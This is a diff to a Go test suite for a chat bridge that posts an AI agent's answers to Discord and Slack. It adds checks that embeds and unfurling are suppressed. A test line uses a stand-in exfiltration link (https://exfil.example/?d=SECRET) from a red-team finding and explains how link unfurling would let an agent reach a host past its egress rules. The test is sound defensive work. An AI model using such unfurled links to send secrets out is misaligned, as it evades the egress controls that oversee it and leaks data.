@@ -516,7 +516,7 @@ func TestChat(t *testing.T) {
 				t.Errorf("the notice lacks %q: %q", want, notice.Content)
 			}
 		}
-		if !notice.NoMentions || j.Status != api.StatusFailed {
+		if !notice.NoMentions || !notice.NoEmbeds || j.Status != api.StatusFailed {
 			t.Errorf("notice %+v, job %s", notice, j.Status)
 		}
 		t.Logf("notice:\n%s", notice.Content)
@@ -702,6 +702,24 @@ func TestChat(t *testing.T) {
 		record("the agent's answer mentions @everyone and a user (<@300>)", "posted with allowed_mentions empty (Discord) or escaped (Slack): nobody is pinged",
 			fmt.Sprintf("Discord post allows no mention: %v; Slack text %q", p.NoMentions, firstSlackText(cm.slack)),
 			p.NoMentions && strings.Contains(firstSlackText(cm.slack), "&lt;@300&gt;"))
+
+		// Discord's servers fetch the links of a bot's message to unfurl
+		// them: a link the agent wrote would be a request to a host it
+		// chose, past its egress rules.
+		embeds := 0
+		for _, x := range cm.discord.Posts() {
+			if x.Bot == talkerID && !x.NoEmbeds {
+				embeds++
+			}
+		}
+		for _, x := range cm.discord.Edits() {
+			if x.Bot == talkerID && !x.NoEmbeds {
+				embeds++
+			}
+		}
+		record("the agent's answer or progress line holds a link (https://exfil.example/?d=SECRET), which Discord would fetch to unfurl it (found by the red team)",
+			"every Discord post and edit asks for no embed (SUPPRESS_EMBEDS); Slack's are sent with unfurling off",
+			fmt.Sprintf("talker's posts and edits that allow embeds: %d", embeds), embeds == 0)
 	})
 
 	t.Run("no token in the journal, units, ps or D-Bus", func(t *testing.T) {
